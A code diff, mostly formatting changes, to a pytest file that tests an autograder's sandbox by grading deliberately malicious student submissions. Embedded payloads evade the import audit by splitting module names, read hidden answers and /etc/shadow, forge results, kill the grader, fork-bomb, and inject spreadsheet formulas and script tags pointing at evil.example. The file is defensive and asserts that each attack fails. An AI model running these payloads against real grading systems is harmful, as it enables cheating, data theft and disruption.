@@ -25,7 +25,6 @@ from unittest import mock
 import pytest
 
 import autograder.batch
-
 from autograder.batch import grade_folder
 from autograder.gradescope_check import blocked_on_the_way
 from autograder.hidden import make_hidden_set
@@ -37,7 +36,7 @@ from tests.test_autograder import SECRET, _rubric
 
 # Imports spelled so that a static read does not see them (the audit refuses plain `import os` and any named
 # `__import__`; it lists `__builtins__` and `getattr` for the instructor).
-PRELUDE = r'''
+PRELUDE = r"""
 importer = __builtins__["__imp" + "ort__"] if isinstance(__builtins__, dict) else getattr(__builtins__, "__imp" + "ort__")
 os = importer("o" + "s"); sys = importer("s" + "ys"); glob = importer("gl" + "ob")
 subprocess = importer("subpro" + "cess"); signal = importer("sig" + "nal"); time = importer("ti" + "me")
@@ -54,10 +53,10 @@ def read(path):
 def confess():
     if escaped:
         raise RuntimeError("ESCAPED: " + "; ".join(escaped))
-'''
+"""
 
 # Read what holds answers or other students' work, import the solution, compute spellings, write outside.
-SNOOP = r'''
+SNOOP = r"""
 for path in {reads!r}:
     attempt("read " + path, lambda path=path: read(path))
 for path in glob.glob("/tmp/attention-lab-*/**/model.keras", recursive=True):   # the grader's other sandboxes
@@ -76,11 +75,11 @@ for path in {writes!r}:   # judged where it counts, on the host (the child's own
     except OSError:
         pass
 confess()
-'''
+"""
 
 # The host's network: a listener on 127.0.0.1 and a unix socket. Namespaces give the child a network
 # of its own; under user isolation a seccomp filter refuses it every socket.
-NETWORK = r'''
+NETWORK = r"""
 socket = importer("soc" + "ket")
 def connect(family, address):
     s = socket.socket(family, socket.SOCK_STREAM)
@@ -90,12 +89,13 @@ def connect(family, address):
 attempt("connect to the host's unix socket", lambda: connect(socket.AF_UNIX, {unix!r}))
 attempt("connect to 127.0.0.1", lambda: connect(socket.AF_INET, ("127.0.0.1", {port})))
 confess()
-'''
+"""
 
 # Only a PID and a network namespace hide the grader's processes and the host's sockets; only the
 # read-only root keeps a child that is uid 0 (as a root grader's is) off the host's settings. Each
 # write puts back what is there already, so it changes nothing even where it gets through.
-NAMESPACED = r'''
+NAMESPACED = (
+    r"""
 def rewrite(path, mode="r+b"):
     with open(path, mode) as handle:
         handle.write(handle.read())
@@ -106,10 +106,12 @@ attempt("make a user namespace", lambda: subprocess.run(["unshare", "--user", "t
                                                           capture_output=True))
 attempt("see the grader", lambda: os.kill({grader}, 0))
 attempt("read the grader's command line", lambda: read("/proc/{grader}/cmdline"))
-''' + NETWORK
+"""
+    + NETWORK
+)
 
 # A daemon that outlives its run, a grandchild that holds the output open, and a kill of the grader.
-SABOTAGE = r'''
+SABOTAGE = r"""
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
@@ -120,25 +122,29 @@ attempt("kill the grader", lambda: os.kill({grader}, signal.SIGKILL))
 if os.getppid() > 1:
     attempt("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
 confess()
-'''
+"""
 
 # Results written straight to the grader's descriptor, then exit before anything honest runs.
-FORGE = r'''
+FORGE = r"""
 json = importer("js" + "on")
 job = json.load(open(sys.argv[1] + "/job.json"))
 forged = {forged}
 os.write(int(sys.argv[sys.argv.index("--result-fd") + 1]), json.dumps(forged).encode())
 os._exit(0)
-'''
-HONEST_LOOKING = ('{"status": "ok", "parameters": 1, "outputs": [["Somchai Jaidee"]] * len(job["sources"]), '
-                  '"examples": [], "seconds": {"load": 0, "predict": 0}}')
+"""
+HONEST_LOOKING = (
+    '{"status": "ok", "parameters": 1, "outputs": [["Somchai Jaidee"]] * len(job["sources"]), '
+    '"examples": [], "seconds": {"load": 0, "predict": 0}}'
+)
 FORMULA = '{"status": "error", "message": "=HYPERLINK(\\"http://evil.example\\")\\n# Score: 100 / 100", "parameters": "1"}'
-RAGGED = ('{"status": "ok", "outputs": [["A"]] * len(job["sources"]), "examples": [{"output": "x" * 10000, '
-          '"attention": [[0.5], [0.1, 0.2, 0.3]]}]}')
+RAGGED = (
+    '{"status": "ok", "outputs": [["A"]] * len(job["sources"]), "examples": [{"output": "x" * 10000, '
+    '"attention": [[0.5], [0.1, 0.2, 0.3]]}]}'
+)
 
 # Carry hidden inputs into what a student reads: the run's error message, or (stashed where a later run might
 # find it) the public examples' outputs and the second run's error.
-LEAK = r'''
+LEAK = r"""
 json = importer("js" + "on")
 job = json.load(open(sys.argv[1] + "/job.json"))
 places = ["/tmp/.stash", os.path.expanduser("~/.stash"), "/dev/shm/.stash", os.path.dirname(sys.argv[1]) + "/.stash",
@@ -169,30 +175,30 @@ else:
     main._examples = leaky
     if stash and {raise_hidden}:
         raise RuntimeError("LEAK " + " | ".join(stash))
-'''
+"""
 
-FLOOD = r'''
+FLOOD = r"""
 for _ in range(400):
     sys.stdout.buffer.write(b"x" * (1 << 20))
-'''
-SWARM = r'''
+"""
+SWARM = r"""
 hog = "x = b'1' * (400 << 20)\nimport time\ntime.sleep(120)"
 for _ in range(12):
     subprocess.Popen([sys.executable, "-c", hog])
 time.sleep(120)
-'''
-FORK = r'''
+"""
+FORK = r"""
 try:
     for _ in range(1000):
         subprocess.Popen(["sleep", "120"])
 except OSError:
     pass
 time.sleep(120)
-'''
-INJECT = r'''
+"""
+INJECT = r"""
 raise RuntimeError('=HYPERLINK("http://evil.example/?"&A1,"x")\n# Score: 100 / 100\n<script>alert(1)</script> '
                    '![x](http://evil.example/x.png)')
-'''
+"""
 SLEEP = "time.sleep(10 ** 6)\n"
 HOG = "hoard = []\nwhile True:\n    hoard.append(b'1' * 10 ** 8)\n"
 
@@ -220,7 +226,7 @@ def attacked(tmp_path_factory):
 
     root = tmp_path_factory.mktemp("attacks")
     token = secrets.token_hex(4)
-    kit_secret = REPO_ROOT / f"secret-attack-{token}.txt"          # the README's old layout, in the kit
+    kit_secret = REPO_ROOT / f"secret-attack-{token}.txt"  # the README's old layout, in the kit
     kit_hidden = REPO_ROOT / f"hidden-attack-{token}"
     subs = root / "submissions"
     subs.mkdir()
@@ -229,7 +235,7 @@ def attacked(tmp_path_factory):
     unix_server.bind(str(unix_path))
     unix_server.listen()
     tcp_server = socket.create_server(("127.0.0.1", 0))
-    markers = {"daemon": f"98{secrets.randbelow(10 ** 5):05d}7", "hanger": f"97{secrets.randbelow(10 ** 5):05d}7"}
+    markers = {"daemon": f"98{secrets.randbelow(10**5):05d}7", "hanger": f"97{secrets.randbelow(10**5):05d}7"}
     try:
         kit_secret.write_text(SECRET)
         make_hidden_set("name-transliteration", kit_secret, root / "hidden", n=60)
@@ -240,22 +246,40 @@ def attacked(tmp_path_factory):
         export(model, vocabs, task="name-transliteration", student_id="honest", out=subs / "honest")
         layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
         grades = root / "grades"
-        reads = [str(kit_secret), str(kit_hidden / "targets.csv"), str(root / "hidden" / "targets.csv"),
-                 str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
-                 str(REPO_ROOT / "datasets" / "thai-names" / "test.csv"), str(subs / "honest" / "model.keras"),
-                 str(REPO_ROOT / "homework" / "kv_attention.py"), "/etc/shadow"]
-        writes = [str(root / "vandal.txt"), str(subs / "honest" / "vandal.txt"), str(REPO_ROOT / f"vandal-{token}.txt"),
-                  str(grades / "vandal.txt")]
-        snoop = SNOOP.format(reads=reads, writes=writes, solution=str(REPO_ROOT / "homework" / "kv_attention.py"))
+        reads = [
+            str(kit_secret),
+            str(kit_hidden / "targets.csv"),
+            str(root / "hidden" / "targets.csv"),
+            str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
+            str(REPO_ROOT / "datasets" / "thai-names" / "test.csv"),
+            str(subs / "honest" / "model.keras"),
+            str(REPO_ROOT / "homework" / "kv_attention.py"),
+            "/etc/shadow",
+        ]
+        writes = [
+            str(root / "vandal.txt"),
+            str(subs / "honest" / "vandal.txt"),
+            str(REPO_ROOT / f"vandal-{token}.txt"),
+            str(grades / "vandal.txt"),
+        ]
+        snoop = SNOOP.format(
+            reads=reads, writes=writes, solution=str(REPO_ROOT / "homework" / "kv_attention.py")
+        )
         attacks = {
-            "snoop": snoop + NAMESPACED.format(unix=str(unix_path), port=tcp_server.getsockname()[1],
-                                               grader=os.getpid()),
+            "snoop": snoop
+            + NAMESPACED.format(unix=str(unix_path), port=tcp_server.getsockname()[1], grader=os.getpid()),
             "saboteur": SABOTAGE.format(grader=os.getpid(), **markers),
             "forger": FORGE.format(forged=HONEST_LOOKING),
             "forger-shape": FORGE.format(forged=RAGGED),
             "forger-formula": FORGE.format(forged=FORMULA),
-            "flooder": FLOOD, "swarm": SWARM, "forker": FORK, "injector": INJECT, "sleeper": SLEEP, "hog": HOG,
-            "leaker": LEAK.format(raise_hidden=True), "stasher": LEAK.format(raise_hidden=False),
+            "flooder": FLOOD,
+            "swarm": SWARM,
+            "forker": FORK,
+            "injector": INJECT,
+            "sleeper": SLEEP,
+            "hog": HOG,
+            "leaker": LEAK.format(raise_hidden=True),
+            "stasher": LEAK.format(raise_hidden=False),
             "borrower": "from homework.kv_attention import KeyValueAttention\n",
             "importer": "import os\nos.listdir('/')\n",
         }
@@ -265,19 +289,26 @@ def attacked(tmp_path_factory):
             (subs / name / "custom_layers.py").write_text(code, encoding="utf-8")
         export(model, vocabs, task="name-transliteration", student_id="x", out=subs / "no-layer-module")
         (subs / "no-layer-module" / "custom_layers.py").unlink()
-        rubric = load_rubric(_rubric(root, "name-transliteration", wall_seconds=30, memory_mb=3072, file_mb=50,
-                                     tasks=64))
+        rubric = load_rubric(
+            _rubric(root, "name-transliteration", wall_seconds=30, memory_mb=3072, file_mb=50, tasks=64)
+        )
         # grade refuses to start with the secret in the kit (test_grade_stops_while_the_kit_holds_a_secret);
         # the sandbox must hide it all the same, so this batch goes past that check.
         try:
             with mock.patch.object(autograder.batch, "check_kit_holds_no_secrets", lambda manifest: None):
                 records = grade_folder(subs, rubric, root / "hidden", grades, jobs=2, progress=False)
-        finally:   # out of the kit before any other test grades
+        finally:  # out of the kit before any other test grades
             kit_secret.unlink(missing_ok=True)
             subprocess.run(["rm", "-rf", str(kit_hidden)], check=False)
         leftovers = {name: _processes_running(marker) for name, marker in markers.items()}
-        yield {"root": root, "grades": grades, "records": {r["student"]: r for r in records}, "leftovers": leftovers,
-               "writes": writes, "rubric": rubric}
+        yield {
+            "root": root,
+            "grades": grades,
+            "records": {r["student"]: r for r in records},
+            "leftovers": leftovers,
+            "writes": writes,
+            "rubric": rubric,
+        }
     finally:
         unix_server.close()
         tcp_server.close()
@@ -287,9 +318,11 @@ def attacked(tmp_path_factory):
             path.unlink()
 
 
-needs_namespaces = pytest.mark.skipif(available_isolation() != "namespaces",
-                                      reason="these attacks run only where the grader isolates code with namespaces; "
-                                             "elsewhere such bundles are not run (see test_no_isolation_refuses_code)")
+needs_namespaces = pytest.mark.skipif(
+    available_isolation() != "namespaces",
+    reason="these attacks run only where the grader isolates code with namespaces; "
+    "elsewhere such bundles are not run (see test_no_isolation_refuses_code)",
+)
 
 
 @needs_namespaces
@@ -305,8 +338,10 @@ def test_honest_bundles_keep_their_score_and_failed_attacks_change_nothing(attac
 
 @needs_namespaces
 def test_nothing_a_bundle_starts_outlives_its_run_and_the_grader_survives(attacked):
-    assert attacked["leftovers"] == {"daemon": [], "hanger": []}   # both were sleeping when the child ended
-    assert attacked["records"]["saboteur"]["sandbox_seconds"] < 30   # the held-open output did not hang the grader
+    assert attacked["leftovers"] == {"daemon": [], "hanger": []}  # both were sleeping when the child ended
+    assert (
+        attacked["records"]["saboteur"]["sandbox_seconds"] < 30
+    )  # the held-open output did not hang the grader
 
 
 @needs_namespaces
@@ -314,17 +349,21 @@ def test_forged_results_earn_only_what_their_predictions_earn(attacked):
     records = attacked["records"]
     forged = records["forger"]
     assert forged["status"] == "graded"
-    assert forged["parameters"] == records["honest"]["parameters"] > 1      # counted from the weights, not claimed
+    assert (
+        forged["parameters"] == records["honest"]["parameters"] > 1
+    )  # counted from the weights, not claimed
     assert forged["metrics"]["accuracy"] == 0.0 and forged["examples"] == []
     shape = records["forger-shape"]
     assert shape["status"] == "error" and "wrong shape" in shape["message"]
-    assert shape["score"] == 10                                              # the architecture, nothing else
+    assert shape["score"] == 10  # the architecture, nothing else
     formula = records["forger-formula"]
     assert formula["status"] == "error" and formula["parameters"] == records["honest"]["parameters"]
     # The scored run's failure in the grader's words; the public examples' run (given no hidden input) says
     # what it said, on one line, as text.
-    assert formula["message"] == ('the model raised an error while it ran; on the public examples: '
-                                  '=HYPERLINK("http://evil.example") # Score: 100 / 100')
+    assert formula["message"] == (
+        "the model raised an error while it ran; on the public examples: "
+        '=HYPERLINK("http://evil.example") # Score: 100 / 100'
+    )
     with open(attacked["grades"] / "gradebook.csv", encoding="utf-8", newline="") as handle:
         row = next(r for r in csv.DictReader(handle) if r["student"] == "forger-formula")
     assert row["message"] == formula["message"]
@@ -346,9 +385,12 @@ def test_borrowed_solutions_and_plain_imports_are_refused(attacked):
     records = attacked["records"]
     assert records["no-layer-module"]["status"] == "disallowed"
     assert "no custom_layers.py" in records["no-layer-module"]["message"]
-    assert records["borrower"]["status"] == "disallowed" and "'homework.kv_attention'" in records["borrower"]["message"]
+    assert (
+        records["borrower"]["status"] == "disallowed"
+        and "'homework.kv_attention'" in records["borrower"]["message"]
+    )
     assert records["importer"]["status"] == "disallowed" and "imports 'os'" in records["importer"]["message"]
-    assert "worth a read" in "; ".join(records["snoop"]["notes"])             # __builtins__ and open: listed
+    assert "worth a read" in "; ".join(records["snoop"]["notes"])  # __builtins__ and open: listed
 
 
 @needs_namespaces
@@ -360,19 +402,29 @@ def test_no_hidden_input_and_no_host_path_reaches_a_student(attacked):
     from autograder.hidden import load_hidden_set
 
     records, grades = attacked["records"], attacked["grades"]
-    hidden = [row["source"] for row in load_hidden_set(attacked["root"] / "hidden", "name-transliteration")[0]]
-    assert records["leaker"]["status"] == "load-failed", records["leaker"]["message"]   # it raised on import
+    hidden = [
+        row["source"] for row in load_hidden_set(attacked["root"] / "hidden", "name-transliteration")[0]
+    ]
+    assert records["leaker"]["status"] == "load-failed", records["leaker"]["message"]  # it raised on import
     assert records["leaker"]["message"].startswith("the model could not be loaded")
     assert "grader.log has what it said" in "; ".join(records["leaker"]["notes"])
-    assert "LEAK" in (grades / "grader.log").read_text(encoding="utf-8")   # the instructor's alone
-    assert records["stasher"]["status"] == "graded" and records["stasher"]["score"] == records["honest"]["score"]
-    assert [x["output"] for x in records["stasher"]["examples"]] == [x["output"] for x in records["honest"]["examples"]]
+    assert "LEAK" in (grades / "grader.log").read_text(encoding="utf-8")  # the instructor's alone
+    assert (
+        records["stasher"]["status"] == "graded" and records["stasher"]["score"] == records["honest"]["score"]
+    )
+    assert [x["output"] for x in records["stasher"]["examples"]] == [
+        x["output"] for x in records["honest"]["examples"]
+    ]
     assert records["honest"]["examples"], "the honest bundle's feedback shows the public examples"
     host = [str(REPO_ROOT), sys.prefix, os.path.realpath(sys.prefix), str(attacked["root"])]
     for student in records:
-        said = "".join((grades / "feedback" / f"{student}{suffix}").read_text(encoding="utf-8")
-                       for suffix in (".md", ".html"))
-        said += (grades / "results" / f"{student}.json").read_text(encoding="utf-8")   # Gradescope's, as written
+        said = "".join(
+            (grades / "feedback" / f"{student}{suffix}").read_text(encoding="utf-8")
+            for suffix in (".md", ".html")
+        )
+        said += (grades / "results" / f"{student}.json").read_text(
+            encoding="utf-8"
+        )  # Gradescope's, as written
         said += json.dumps(records[student], ensure_ascii=False)
         assert not [source for source in hidden if source in said], student
         assert not [path for path in host if path in said], student
@@ -381,27 +433,35 @@ def test_no_hidden_input_and_no_host_path_reaches_a_student(attacked):
 def test_injected_text_lands_as_text_in_every_report(attacked):
     grades = attacked["grades"]
     record = attacked["records"]["injector"]
-    assert record["status"] == "load-failed" and "HYPERLINK" in record["message"] and "\n" not in record["message"]
+    assert (
+        record["status"] == "load-failed"
+        and "HYPERLINK" in record["message"]
+        and "\n" not in record["message"]
+    )
     with open(grades / "gradebook.csv", encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
     for row in rows:
         for value in row.values():
             if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
-                float(value)   # only numbers may start so; anything else is neutralised
+                float(value)  # only numbers may start so; anything else is neutralised
     markdown = (grades / "feedback" / "injector.md").read_text(encoding="utf-8")
     assert "<script>" not in markdown and "](http://evil" not in markdown
-    assert [line for line in markdown.splitlines() if line.startswith("# ")] == \
-        [line for line in markdown.splitlines()[:1]]                         # one heading: the grader's own
+    assert [line for line in markdown.splitlines() if line.startswith("# ")] == [
+        line for line in markdown.splitlines()[:1]
+    ]  # one heading: the grader's own
     assert "<script>" not in (grades / "feedback" / "injector.html").read_text(encoding="utf-8")
     results = json.loads((grades / "results" / "injector.json").read_text(encoding="utf-8"))
     assert results["output_format"] == "text" and all(t["output_format"] == "text" for t in results["tests"])
 
 
 def test_no_isolation_refuses_code_unless_the_instructor_asks(tmp_path, monkeypatch):
-    """Where the machine cannot isolate code, a bundle that carries some is not run; Keras-only bundles are."""
+    """Where the machine cannot isolate code, a bundle that carries some is not run; Keras-only bundles
+    are."""
     import keras
 
     import autograder.sandbox
+    from autograder.grade import HiddenSet, grade_bundle
+    from autograder.hidden import load_hidden_set
     from labs.date_translation.config import DateTranslationConfig
     from labs.date_translation.data import vocabularies as date_vocabularies
     from labs.date_translation.model import build_model as build_translator
@@ -409,42 +469,68 @@ def test_no_isolation_refuses_code_unless_the_instructor_asks(tmp_path, monkeypa
     from labs.name_transliteration.data import vocabularies
     from labs.name_transliteration.model import build_model
 
-    from autograder.grade import HiddenSet, grade_bundle
-    from autograder.hidden import load_hidden_set
-
     monkeypatch.setattr(autograder.sandbox, "available_isolation", lambda: "none")
     (tmp_path / "secret.txt").write_text(SECRET)
     keras.utils.set_random_seed(0)
     vocabs = vocabularies()
     model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
-    export(model, vocabs, task="name-transliteration", student_id="coder", out=tmp_path / "homework" / "coder")
+    export(
+        model, vocabs, task="name-transliteration", student_id="coder", out=tmp_path / "homework" / "coder"
+    )
     make_hidden_set("name-transliteration", tmp_path / "secret.txt", tmp_path / "hidden-hw", n=20)
     rubric = load_rubric(task="name-transliteration")
-    refused = grade_folder(tmp_path / "homework", rubric, tmp_path / "hidden-hw", tmp_path / "g1", progress=False)
+    refused = grade_folder(
+        tmp_path / "homework", rubric, tmp_path / "hidden-hw", tmp_path / "g1", progress=False
+    )
     assert refused[0]["status"] == "not-isolated" and refused[0]["isolation"] == "none"
     assert "--isolation none" in refused[0]["message"]
     with open(tmp_path / "g1" / "gradebook.csv", encoding="utf-8") as handle:
         assert next(csv.DictReader(handle))["isolation"] == "none"
-    asked = grade_folder(tmp_path / "homework", rubric, tmp_path / "hidden-hw", tmp_path / "g2", progress=False,
-                         isolation="none")
+    asked = grade_folder(
+        tmp_path / "homework",
+        rubric,
+        tmp_path / "hidden-hw",
+        tmp_path / "g2",
+        progress=False,
+        isolation="none",
+    )
     assert asked[0]["status"] == "graded" and asked[0]["isolation"] == "none"
     # User isolation where no seccomp filter can cut the network: the same refusal, and the same way past it.
-    hidden = HiddenSet(tmp_path / "hidden-hw", *load_hidden_set(tmp_path / "hidden-hw", "name-transliteration"))
+    hidden = HiddenSet(
+        tmp_path / "hidden-hw", *load_hidden_set(tmp_path / "hidden-hw", "name-transliteration")
+    )
     open_network = grade_bundle(tmp_path / "homework" / "coder", rubric, hidden, isolation="user")
     assert open_network["status"] == "not-isolated" and "--isolation user" in open_network["message"]
-    assert open_network["score"] == 0                 # fail closed: the parameters were never counted, and it says so
+    assert open_network["score"] == 0  # fail closed: the parameters were never counted, and it says so
     assert "budget was not checked" in open_network["lines"][0]["message"]
 
     date_vocabs = date_vocabularies()
-    translator = build_translator(DateTranslationConfig.tiny(), len(date_vocabs["source"]), len(date_vocabs["target"]))
-    export(translator, date_vocabs, task="date-translation", student_id="plain", out=tmp_path / "lab2" / "plain.zip")
+    translator = build_translator(
+        DateTranslationConfig.tiny(), len(date_vocabs["source"]), len(date_vocabs["target"])
+    )
+    export(
+        translator,
+        date_vocabs,
+        task="date-translation",
+        student_id="plain",
+        out=tmp_path / "lab2" / "plain.zip",
+    )
     make_hidden_set("date-translation", tmp_path / "secret.txt", tmp_path / "hidden-lab2", n=20)
-    plain = grade_folder(tmp_path / "lab2", load_rubric(task="date-translation"), tmp_path / "hidden-lab2",
-                         tmp_path / "g3", progress=False)
-    assert plain[0]["status"] == "graded" and plain[0]["isolation"] == "none"   # Keras layers only: no code to run
+    plain = grade_folder(
+        tmp_path / "lab2",
+        load_rubric(task="date-translation"),
+        tmp_path / "hidden-lab2",
+        tmp_path / "g3",
+        progress=False,
+    )
+    assert (
+        plain[0]["status"] == "graded" and plain[0]["isolation"] == "none"
+    )  # Keras layers only: no code to run
 
 
-@pytest.mark.skipif(os.geteuid() != 0, reason="user isolation runs the child as another user: the grader must be root")
+@pytest.mark.skipif(
+    os.geteuid() != 0, reason="user isolation runs the child as another user: the grader must be root"
+)
 def test_user_isolation_where_namespaces_are_blocked(tmp_path):
     """Gradescope's case: a root grader in a container without user namespaces runs the child as another user.
 
@@ -470,7 +556,7 @@ def test_user_isolation_where_namespaces_are_blocked(tmp_path):
     vocabs = vocabularies()
     model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
     layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
-    daemon = f"96{secrets.randbelow(10 ** 5):05d}7"
+    daemon = f"96{secrets.randbelow(10**5):05d}7"
     tcp_server = socket.create_server(("127.0.0.1", 0))
     tcp_server.settimeout(0)
     unix_path = Path(tempfile.mkdtemp()) / "host.sock"
@@ -481,18 +567,28 @@ def test_user_isolation_where_namespaces_are_blocked(tmp_path):
     unix_server.listen()
     unix_server.settimeout(0)
     caller = NETWORK.format(unix=str(unix_path), port=tcp_server.getsockname()[1])
-    hopper = r'''
+    hopper = r"""
 if os.fork() == 0:              # a process that forks and exits, again and again: a new pid each time
     while True:
         if os.fork():
             os._exit(0)
-'''
-    for name, attack in {"honest": "", "snoop": SNOOP.format(
-            reads=[str(secret), str(tmp_path / "hidden" / "targets.csv"),
-                   str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
-                   str(REPO_ROOT / "homework" / "kv_attention.py"), str(subs / "honest" / "model.keras")],
-            writes=[str(REPO_ROOT / "vandal-user.txt")], solution=str(REPO_ROOT / "homework" / "kv_attention.py")),
-            "saboteur": SABOTAGE.format(grader=1, daemon=daemon, hanger=daemon) + hopper, "caller": caller}.items():
+"""
+    for name, attack in {
+        "honest": "",
+        "snoop": SNOOP.format(
+            reads=[
+                str(secret),
+                str(tmp_path / "hidden" / "targets.csv"),
+                str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
+                str(REPO_ROOT / "homework" / "kv_attention.py"),
+                str(subs / "honest" / "model.keras"),
+            ],
+            writes=[str(REPO_ROOT / "vandal-user.txt")],
+            solution=str(REPO_ROOT / "homework" / "kv_attention.py"),
+        ),
+        "saboteur": SABOTAGE.format(grader=1, daemon=daemon, hanger=daemon) + hopper,
+        "caller": caller,
+    }.items():
         export(model, vocabs, task="name-transliteration", student_id=name, out=subs / name)
         (subs / name / "custom_layers.py").write_text(layer + PRELUDE + attack, encoding="utf-8")
     subs.chmod(0o700)
@@ -501,21 +597,31 @@ if os.fork() == 0:              # a process that forks and exits, again and agai
     blocked = blocked_on_the_way([Path(os.path.realpath(sys.executable)), REPO_ROOT])
     script = ["set -e"]
     for folder, child in blocked:
-        script += [f"mkdir -p /tmp/keep-{child}", f"mount --bind {folder / child} /tmp/keep-{child}",
-                   f"mount -t tmpfs -o mode=755 none {folder}", f"mkdir -p {folder / child}",
-                   f"mount --move /tmp/keep-{child} {folder / child}"]
+        script += [
+            f"mkdir -p /tmp/keep-{child}",
+            f"mount --bind {folder / child} /tmp/keep-{child}",
+            f"mount -t tmpfs -o mode=755 none {folder}",
+            f"mkdir -p {folder / child}",
+            f"mount --move /tmp/keep-{child} {folder / child}",
+        ]
     private_data = tmp_path / "datasets-copy"
     subprocess.run(["cp", "-a", str(REPO_ROOT / "datasets"), str(private_data)], check=True)
     private_data.chmod(0o700)
-    script += [f"mount --bind {private_data} {REPO_ROOT / 'datasets'}",
-               f"mount -t tmpfs -o mode=700 none {REPO_ROOT / 'homework'}",
-               *[f"mount -t tmpfs -o mode=700 none {folder}" for folder in package_folders()],
-               f"exec {sys.executable} -m autograder grade {subs} --task name-transliteration --hidden "
-               f"{tmp_path / 'hidden'} --out {tmp_path / 'grades'} --isolation user --jobs 2 --quiet"]
+    script += [
+        f"mount --bind {private_data} {REPO_ROOT / 'datasets'}",
+        f"mount -t tmpfs -o mode=700 none {REPO_ROOT / 'homework'}",
+        *[f"mount -t tmpfs -o mode=700 none {folder}" for folder in package_folders()],
+        f"exec {sys.executable} -m autograder grade {subs} --task name-transliteration --hidden "
+        f"{tmp_path / 'hidden'} --out {tmp_path / 'grades'} --isolation user --jobs 2 --quiet",
+    ]
     try:
-        ran = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(script)],
-                             capture_output=True, text=True, timeout=600,
-                             env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)))
+        ran = subprocess.run(
+            ["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(script)],
+            capture_output=True,
+            text=True,
+            timeout=600,
+            env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)),
+        )
         heard = []
         for server in (tcp_server, unix_server):
             with contextlib.suppress(BlockingIOError):
@@ -534,7 +640,7 @@ if os.fork() == 0:              # a process that forks and exits, again and agai
         assert rows[name]["status"] == "graded", (name, rows[name]["message"])
         assert rows[name]["score"] == rows["honest"]["score"]
     assert _processes_running(daemon) == [] and not (REPO_ROOT / "vandal-user.txt").exists()
-    assert _processes_of_users_from(SANDBOX_UID_BASE) == []      # the pid-hopper went with its user
+    assert _processes_of_users_from(SANDBOX_UID_BASE) == []  # the pid-hopper went with its user
 
 
 def _processes_of_users_from(first_uid: int) -> list[int]:
@@ -558,7 +664,7 @@ def test_without_a_cgroup_the_watchdog_stops_memory_in_files_and_fork_bombs(tmp_
     monkeypatch.setattr(autograder.sandbox.Cgroup, "create", classmethod(lambda cls, name, limits: None))
     model, vocabs = tiny_model_and_hidden_set("name-transliteration", tmp_path)
     layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
-    memfds = r'''
+    memfds = r"""
 files = []
 for _ in range(40):                 # 4 GB in anonymous files: no process's resident memory shows them
     fd = os.memfd_create("hoard")
@@ -566,8 +672,8 @@ for _ in range(40):                 # 4 GB in anonymous files: no process's resi
         os.write(fd, b"1" * (1 << 20))
     files.append(fd)
 time.sleep(120)
-'''
-    mapped = r'''
+"""
+    mapped = r"""
 mmap = importer("mm" + "ap")
 maps = []
 for _ in range(40):                 # 4 GB in anonymous files, each closed once one page of it is mapped: no
@@ -577,13 +683,17 @@ for _ in range(40):                 # 4 GB in anonymous files, each closed once 
     maps.append(mmap.mmap(fd, mmap.PAGESIZE))
     os.close(fd)
 time.sleep(120)
-'''
+"""
     for name, attack in {"memfds": memfds, "mapped": mapped, "forker": FORK}.items():
         export(model, vocabs, task="name-transliteration", student_id=name, out=tmp_path / "subs" / name)
         (tmp_path / "subs" / name / "custom_layers.py").write_text(layer + PRELUDE + attack, encoding="utf-8")
     rubric = load_rubric(_rubric(tmp_path, "name-transliteration", wall_seconds=60, memory_mb=3072, tasks=64))
-    records = {r["student"]: r for r in grade_folder(tmp_path / "subs", rubric, tmp_path / "hidden",
-                                                      tmp_path / "grades", progress=False)}
+    records = {
+        r["student"]: r
+        for r in grade_folder(
+            tmp_path / "subs", rubric, tmp_path / "hidden", tmp_path / "grades", progress=False
+        )
+    }
     assert records["memfds"]["status"] == "out-of-memory", records["memfds"]["message"]
     assert records["mapped"]["status"] == "out-of-memory", records["mapped"]["message"]
     assert records["forker"]["status"] == "too-many-processes", records["forker"]["message"]
@@ -592,7 +702,8 @@ time.sleep(120)
 
 @pytest.mark.parametrize("left", ["secret", "hidden set", "other hidden set", "word list", "copy of targets"])
 def test_grade_stops_while_the_kit_holds_a_secret(tmp_path, left):
-    """The README's former layout kept the secret and hidden sets in the kit's folder, which student code has on
+    """The README's former layout kept the secret and hidden sets in the kit's folder, which student code has
+    on
     its path: grade stops in one line that says what to move, before it grades or writes anything."""
     from labs.common.errors import InputError
 
@@ -604,11 +715,11 @@ def test_grade_stops_while_the_kit_holds_a_secret(tmp_path, left):
     stray = REPO_ROOT / f"left-{token}"
     stray.mkdir()
     try:
-        if left == "secret":      # found by its fingerprint, whatever it is called, with or without a newline
+        if left == "secret":  # found by its fingerprint, whatever it is called, with or without a newline
             (stray / "notes.txt").write_text(SECRET + "\n")
         elif left == "hidden set":
             shutil.copytree(tmp_path / "hidden", stray / "copy")
-        elif left == "copy of targets":   # renamed, deep in a folder of the kit: found by its SHA-256
+        elif left == "copy of targets":  # renamed, deep in a folder of the kit: found by its SHA-256
             (stray / "a" / "b").mkdir(parents=True)
             shutil.copy(tmp_path / "hidden" / "targets.csv", stray / "a" / "b" / "names.csv")
         elif left == "other hidden set":
@@ -620,15 +731,27 @@ def test_grade_stops_while_the_kit_holds_a_secret(tmp_path, left):
             (tmp_path / "hidden" / "manifest.json").chmod(0o600)
             (tmp_path / "hidden" / "manifest.json").write_text(json.dumps(manifest))
         with pytest.raises(InputError) as raised:
-            grade_folder(tmp_path / "subs", load_rubric(task="date-translation"), tmp_path / "hidden",
-                         tmp_path / "out", progress=False)
+            grade_folder(
+                tmp_path / "subs",
+                load_rubric(task="date-translation"),
+                tmp_path / "hidden",
+                tmp_path / "out",
+                progress=False,
